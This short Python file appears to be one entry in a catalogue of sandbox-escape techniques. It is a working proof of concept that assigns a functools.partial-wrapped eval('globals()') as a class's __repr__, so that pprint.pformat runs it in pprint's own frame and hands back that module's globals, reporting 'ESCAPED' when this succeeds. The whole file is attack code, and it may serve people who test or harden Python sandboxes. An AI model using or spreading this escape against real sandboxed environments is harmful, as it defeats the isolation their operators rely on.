# technique: pprint calls __repr__: a C callable
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import pprint
kept = []
peek = functools.partial(next, map(kept.append, map(eval, ['globals()'])), 0)


class Thing:
    __repr__ = staticmethod(peek)


try:
    pprint.pformat(Thing())
except TypeError:
    pass
if kept[0]['__name__'] == 'pprint':
    print('ESCAPED globals of pprint')
